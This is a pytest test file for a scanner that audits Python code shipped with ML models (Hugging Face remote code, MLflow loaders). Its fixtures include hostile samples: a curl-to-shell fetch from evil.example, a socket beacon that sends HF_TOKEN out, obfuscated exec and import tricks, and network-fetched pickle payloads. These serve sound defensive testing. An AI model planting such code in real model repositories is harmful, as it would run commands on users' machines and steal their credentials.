"""Python files shipped with models (`trust_remote_code`): what runs at import, while the
model loads, and when it is used, read with `ast` and never imported.

Hostile files are written the way attackers write remote code; benign ones follow the shape
of real Hugging Face remote-code repositories (modeling/configuration files, helper scripts).
"""

from __future__ import annotations

import json
import textwrap
from pathlib import Path

import pytest

from modelaudit.findings import IssueSeverity
from modelaudit.rules import text as rt
from tests.dataformats._dataformats_util import rules_of, scan

CRIT = IssueSeverity.CRITICAL
WARN = IssueSeverity.WARNING

HEADER = """\
import os
import torch
from torch import nn
from transformers import PreTrainedModel, PretrainedConfig
"""

HOSTILE = {
    "module-level-system": "os.system('curl -s http://evil.example/x | sh')\n",
    "aliased-subprocess-in-helper-called-at-import": """\
import subprocess as sp

def _warmup():
    sp.Popen(['sh', '-c', 'id'])

_warmup()
""",
    "base64-exec": """\
import base64
exec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))
""",
    "zlib-marshal-code": """\
import marshal, zlib
code = marshal.loads(zlib.decompress(b'x\\x9c...'))
""",
    "computed-import": "getattr(__import__('o' + 's'), 'sys' + 'tem')('id')\n",
    "socket-beacon": """\
import socket
socket.create_connection(('evil.example', 443)).send(os.environ.get('HF_TOKEN', '').encode())
""",
    "decorator-runs-code": """\
def register(cls):
    os.popen('id').read()
    return cls

@register
class Helper:
    pass
""",
    "class-body": """\
class Config(PretrainedConfig):
    model_type = 'x'
    _ = os.system('id')
""",
    "model-init": """\
class EvilModel(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self._prepare()

    def _prepare(self):
        os.execv('/bin/sh', ['sh', '-c', 'id'])
""",
    "ctypes-at-import": "import ctypes\nctypes.CDLL('./libpayload.so')\n",
    "pickle-at-import": "import pickle\nstate = pickle.loads(open('blob', 'rb').read())\n",
    "primitive-handed-to-map": "list(map(os.system, ['id']))\n",
    "helper-handed-to-atexit": "import atexit\n\ndef _bye():\n    os.system('id')\n\natexit.register(_bye)\n",
    "lambda-called-in-place": "(lambda: os.system('id'))()\n",
    "builtins-namespace-item": "__builtins__['exec']('import os')\n",
    "metaclass-new": """\
class Meta(type):
    def __new__(mcs, *args):
        os.system('id')
        return super().__new__(mcs, *args)

class Helper(metaclass=Meta):
    pass
""",
    "base-init-subclass": """\
class Base:
    def __init_subclass__(cls, **kw):
        os.system('id')

class Helper(Base):
    pass
""",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_code_run_at_import_or_load_is_critical(tmp_path: Path, name: str) -> None:
    path = tmp_path / "modeling_custom.py"
    path.write_text(HEADER + HOSTILE[name])
    result = scan(path)
    assert result.scanner_name == "python"
    assert rt.PYTHON_IMPORT_EXEC in rules_of(result, CRIT), [i.message for i in result.issues]


def test_code_in_a_models_forward_is_a_warning(tmp_path: Path) -> None:
    path = tmp_path / "modeling_custom.py"
    path.write_text(
        HEADER
        + textwrap.dedent(
            """\
            class M(PreTrainedModel):
                def forward(self, x):
                    os.system('nvidia-smi')
                    return x
            """
        )
    )
    result = scan(path)
    assert rules_of(result, CRIT) == set()
    assert rt.PYTHON_BEHAVIOUR in rules_of(result, WARN)


def test_shebang_script_is_read_as_python(tmp_path: Path) -> None:
    path = tmp_path / "setup_env.py"
    path.write_text("#!/usr/bin/env python3\nimport os\nos.system('pip install evil')\n")
    result = scan(path)
    assert result.scanner_name == "python"
    assert rt.PYTHON_IMPORT_EXEC in rules_of(result, CRIT)


def test_auto_map_names_a_class_whose_init_runs_commands(tmp_path: Path) -> None:
    (tmp_path / "modeling_x.py").write_text(
        textwrap.dedent(
            """\
            import subprocess

            class Plain:  # no transformers base: only auto_map says it is loaded
                def __init__(self, config):
                    subprocess.check_output(['id'])
            """
        )
    )
    config = tmp_path / "config.json"
    config.write_text(
        json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.Plain"}})
    )
    result = scan(config)
    issue = next(i for i in result.issues if i.rule == rt.JSON_REMOTE_CODE)
    assert issue.severity is CRIT
    assert any(
        "subprocess.check_output" in b for b in issue.details["remote_code"]["modeling_x.Plain"]
    )


BENIGN_MODELING = '''\
"""PyTorch Tiny model, in the shape of real remote-code repositories."""
import importlib.util
import math
from dataclasses import dataclass
from typing import Optional

import torch
import torch.nn.functional as F
from torch import nn
from transformers import PreTrainedModel
from transformers.modeling_outputs import BaseModelOutput
from transformers.utils import logging

from .configuration_tiny import TinyConfig

logger = logging.get_logger(__name__)
_flash_available = importlib.util.find_spec("flash_attn") is not None


def rotate_half(x):
    x1, x2 = x.chunk(2, dim=-1)
    return torch.cat((-x2, x1), dim=-1)


class TinyPreTrainedModel(PreTrainedModel):
    config_class = TinyConfig
    base_model_prefix = "tiny"

    def _init_weights(self, module):
        if isinstance(module, nn.Linear):
            module.weight.data.normal_(mean=0.0, std=self.config.initializer_range)


class TinyModel(TinyPreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)
        self.post_init()

    def forward(self, x: torch.Tensor, mask: Optional[torch.Tensor] = None):
        h = F.gelu(self.proj(x)) / math.sqrt(x.shape[-1])
        return BaseModelOutput(last_hidden_state=rotate_half(h))
'''

BENIGN_CONFIG = """\
from transformers import PretrainedConfig


class TinyConfig(PretrainedConfig):
    model_type = "tiny"

    def __init__(self, hidden_size=64, initializer_range=0.02, **kwargs):
        self.hidden_size = hidden_size
        self.initializer_range = initializer_range
        super().__init__(**kwargs)
"""

BENIGN_SCRIPT = """\
import argparse
import subprocess

import torch


def git_revision() -> str:
    return subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()


def main() -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--out", default="model.pt")
    args = parser.parse_args()
    with open(args.out + ".rev", "w") as f:
        f.write(git_revision())


if __name__ == "__main__":
    main()
"""


def test_real_shaped_remote_code_repository_is_quiet(tmp_path: Path) -> None:
    (tmp_path / "modeling_tiny.py").write_text(BENIGN_MODELING)
    (tmp_path / "configuration_tiny.py").write_text(BENIGN_CONFIG)
    (tmp_path / "train.py").write_text(BENIGN_SCRIPT)
    config = tmp_path / "config.json"
    config.write_text(
        json.dumps(
            {
                "model_type": "tiny",
                "auto_map": {
                    "AutoConfig": "configuration_tiny.TinyConfig",
                    "AutoModel": "modeling_tiny.TinyModel",
                },
            }
        )
    )
    for name in ("modeling_tiny.py", "configuration_tiny.py", "train.py"):
        result = scan(tmp_path / name)
        assert rules_of(result, CRIT) == set() and rules_of(result, WARN) == set(), name
    result = scan(config)
    remote = [i for i in result.issues if i.rule == rt.JSON_REMOTE_CODE]
    assert [i.severity for i in remote] == [WARN]  # trust_remote_code itself, nothing more


def test_unparseable_python_is_info(tmp_path: Path) -> None:
    path = tmp_path / "old.py"
    path.write_text("print 'python 2'\n")
    result = scan(path)
    assert rules_of(result) == {rt.PYTHON_UNPARSEABLE}


#: Lines from real library files (transformers 5 `tokenization_marian.py`, diffusers 0.42
#: `pipeline_ace_step.py`, `data_collator.py`, `processing_wav2vec2_with_lm.py`) in which a
#: local variable is named like a module, or a multiprocessing helper starts nothing.
SHADOWING_LOCALS = """\
import multiprocessing

class Tok(PreTrainedModel):
    def __init__(self, config):
        super().__init__(config)
        code = []
        code.append(config.name[:4])
        socket = {"host": "localhost"}
        requests = [socket]
        requests.append(code)

    def remove_language_code(self, text):
        code = []
        code.append(text[:2])
        return code

    def has_codes(self, audio_codes):
        return any(code.strip() for code in audio_codes)

    def collate(self, batch):
        if multiprocessing.current_process().name == "MainProcess":
            return multiprocessing.get_start_method()
        return batch
"""


def test_local_names_that_look_like_modules_are_not_modules(tmp_path: Path) -> None:
    path = tmp_path / "modeling_custom.py"
    path.write_text(HEADER + SHADOWING_LOCALS)
    result = scan(path)
    assert rules_of(result, CRIT) == set() and rules_of(result, WARN) == set(), [
        i.message for i in result.issues
    ]


def test_the_imported_module_of_the_same_name_is_still_judged(tmp_path: Path) -> None:
    path = tmp_path / "modeling_custom.py"
    path.write_text(
        HEADER
        + "import code, multiprocessing\n"
        + "code.interact(local={})\n"
        + "class M(PreTrainedModel):\n"
        + "    def forward(self, x):\n"
        + "        with multiprocessing.Pool(2) as pool:\n"
        + "            return pool.map(abs, x)\n"
    )
    result = scan(path)
    assert rt.PYTHON_IMPORT_EXEC in rules_of(result, CRIT)
    assert any("multiprocessing.Pool" in i.message for i in result.issues if i.severity is WARN)


def test_helper_registered_at_import_is_not_run_at_import(tmp_path: Path) -> None:
    """Registration (numpy.distutils' replace_method, hooks) keeps a function for later."""
    (tmp_path / "build_helpers.py").write_text(
        "import subprocess\n\n"
        "def _version(cmd):\n    return subprocess.check_output(cmd)\n\n"
        "def replace_method(klass, name, func):\n    setattr(klass, name, func)\n\n"
        "class Compiler:\n    pass\n\n"
        "replace_method(Compiler, 'version', _version)\n"
        "SORTED = sorted(['b', 'a'], key=lambda s: s.lower())\n"
    )
    result = scan(tmp_path / "build_helpers.py")
    assert not [i for i in result.issues if i.severity is CRIT], [i.message for i in result.issues]


MLFLOW_LOADER = """\
import os


def _load_pyfunc(path):
    os.system("curl -s http://evil.example/x | sh")
"""
MLFLOW_PYTHON_MODEL = """\
import subprocess

import mlflow.pyfunc


class Shipped(mlflow.pyfunc.PythonModel):
    def load_context(self, context):
        subprocess.run(["sh", "-c", "id"])

    def predict(self, context, model_input, params=None):
        return model_input
"""


@pytest.mark.parametrize(
    ("source", "scope"),
    [(MLFLOW_LOADER, "_load_pyfunc"), (MLFLOW_PYTHON_MODEL, "Shipped.load_context")],
    ids=["loader_module", "python_model"],
)
def test_mlflow_load_entry_points_run_at_load(tmp_path: Path, source: str, scope: str) -> None:
    """`mlflow.pyfunc.load_model` calls a loader module's `_load_pyfunc` and a PythonModel's
    `load_context`: judged as load time by their shape, so the file is CRITICAL where no
    MLmodel is beside it (a remote sweep scans an MLflow model's objects one by one)."""
    path = tmp_path / "code" / "shipped.py"
    path.parent.mkdir()
    path.write_text(source)
    result = scan(path)
    assert rules_of(result, CRIT) == {rt.PYTHON_IMPORT_EXEC}
    [issue] = [i for i in result.issues if i.severity is CRIT]
    assert issue.details["when"] == "load" and scope in issue.message, issue.message


def test_routine_mlflow_loader_is_quiet(tmp_path: Path) -> None:
    path = tmp_path / "loader.py"
    path.write_text(
        "import json\n\n\ndef _load_pyfunc(path):\n    with open(path) as f:\n"
        "        return json.load(f)\n"
    )
    assert rules_of(scan(path), CRIT) == set() and rules_of(scan(path), WARN) == set()


#: MLflow's documented custom model: load_context unpickles the artifacts saved with the model.
MLFLOW_ARTIFACTS_MODEL = """\
import os
import pickle

import cloudpickle
import joblib
import mlflow.pyfunc
import torch


class ChurnModel(mlflow.pyfunc.PythonModel):
    def load_context(self, context):
        self.model = joblib.load(context.artifacts["model"])
        with open(context.artifacts["encoder"], "rb") as f:
            self.encoder = pickle.load(f)
        path = os.path.join(context.artifacts["dir"], "extra.pkl")
        self.extra = cloudpickle.load(open(path, "rb"))
        self.net = torch.load(context.artifacts["weights"], weights_only=False)
        here = os.path.dirname(__file__)
        self.vocab = pickle.load(open(os.path.join(here, "vocab.pkl"), "rb"))

    def predict(self, context, model_input, params=None):
        return self.model.predict(model_input)
"""


def test_mlflow_load_context_unpickling_its_own_artifacts_is_info(tmp_path: Path) -> None:
    """The artifacts sit in the model's folder and are scanned as the model files they are."""
    path = tmp_path / "churn_model.py"
    path.write_text(MLFLOW_ARTIFACTS_MODEL)
    result = scan(path)
    assert not [i for i in result.issues if i.severity.rank >= WARN.rank], result.issues
    calls = [c for i in result.issues for c in i.details.get("calls", [])]
    assert {c.split(" ")[0] for c in calls} == {
        "joblib.load",
        "pickle.load",
        "cloudpickle.load",
        "torch.load",
    }


@pytest.mark.parametrize(
    ("body", "severity"),
    [
        # an inline payload: chosen by the author, never scanned as a file
        ("self.m = pickle.loads(base64.b64decode('gASVAAAA'))", CRIT),
        ("self.m = pickle.loads(b'\\x80\\x04cos\\nsystem\\n')", CRIT),
        ("self.m = pickle.loads(bytes.fromhex('80049500'))", CRIT),
        # ... through a file object, locals or a module-level name
        ("self.m = pickle.load(io.BytesIO(base64.b64decode(PAYLOAD)))", CRIT),
        (
            "blob = zlib.decompress(base64.b64decode(PAYLOAD))\n        self.m = pickle.loads(blob)",
            CRIT,
        ),
        ("self.m = pickle.loads(PAYLOAD.encode())", CRIT),
        ("self.m = pickle.load(io.BytesIO(BLOB))", CRIT),
        # bytes of unknown origin handed to loads
        ("self.m = pickle.loads(self.blob)", CRIT),
        # a text constant handed to a file loader is a path
        ("self.m = joblib.load(PATH)", WARN),
        # data from the network
        ("self.m = pickle.loads(requests.get('https://example.com/m').content)", CRIT),
        ("self.m = joblib.load(urllib.request.urlopen('https://example.com/m'))", CRIT),
        # ... through locals: fetched in one statement, unpickled in another
        (
            "data = requests.get('https://e.example/m').content\n        self.m = pickle.loads(data)",
            CRIT,
        ),
        (
            "r = urllib.request.urlopen('https://e.example/m')\n        raw = r.read()\n"
            "        self.m = pickle.loads(raw)",
            CRIT,
        ),
        (
            "buf = b''\n        for c in requests.get('https://e.example/m').iter_content():\n"
            "            buf += c\n        self.m = pickle.loads(buf)",
            CRIT,
        ),
        # a path outside the model: data this scan never saw
        ("self.m = pickle.load(open('/tmp/m.pkl', 'rb'))", WARN),
        ("self.m = joblib.load(os.path.expanduser('~/m.joblib'))", WARN),
        ("self.m = torch.load('/tmp/w.pt', weights_only=False)", WARN),
        # a name bound to an artifact and to something else is not the model's file
        ("p = context.artifacts['m']\n        p = '/tmp/m'\n        self.m = joblib.load(p)", WARN),
    ],
)
def test_mlflow_load_context_unpickling_other_data(
    tmp_path: Path, body: str, severity: IssueSeverity
) -> None:
    source = (
        "import base64, io, os, pickle, urllib.request, zlib\nimport joblib, requests, torch\n"
        "import mlflow.pyfunc\n\nPAYLOAD = 'gASVAAAA'\nBLOB = b'\\x80\\x04N.'\n"
        "PATH = '/srv/m.joblib'\n\n\nclass M(mlflow.pyfunc.PythonModel):\n"
        f"    def load_context(self, context):\n        {body}\n"
    )
    path = tmp_path / "m.py"
    path.write_text(source)
    worst = max((i.severity for i in scan(path).issues), key=lambda s: s.rank)
    assert worst is severity


def test_unpickling_at_import_stays_critical_wherever_the_file_is(tmp_path: Path) -> None:
    path = tmp_path / "m.py"
    path.write_text(
        "import joblib, os\nM = joblib.load(os.path.join(os.path.dirname(__file__), 'x'))\n"
    )
    assert not rules_of(scan(path), CRIT)  # the model's own file, scanned on its own
    path.write_text("import joblib\nM = joblib.load('/tmp/x.joblib')\n")
    assert rules_of(scan(path), CRIT) == {rt.PYTHON_IMPORT_EXEC}
